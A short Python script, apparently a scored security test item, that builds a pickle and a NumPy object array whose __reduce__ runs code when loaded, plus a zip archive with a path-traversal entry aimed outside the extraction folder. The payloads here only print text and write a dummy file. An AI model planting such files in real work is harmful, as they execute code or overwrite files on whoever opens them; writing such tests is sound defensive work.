# tries: to leave pickles and archives that run code where they are opened
# points: 50
import pickle
import zipfile

import numpy as np

class Runs:
    def __reduce__(self):
        return print, ("BREACH".lower(),)

pickle.dump(Runs(), open("model.pkl", "wb"))
np.save("kept.npy", np.array([Runs()], dtype=object), allow_pickle=True)
with zipfile.ZipFile("out.zip", "w") as archive:
    archive.writestr("../../../../tmp/akapen-was-here", "x")
kinds = {"sheep": "wool", "cow": "milk"}
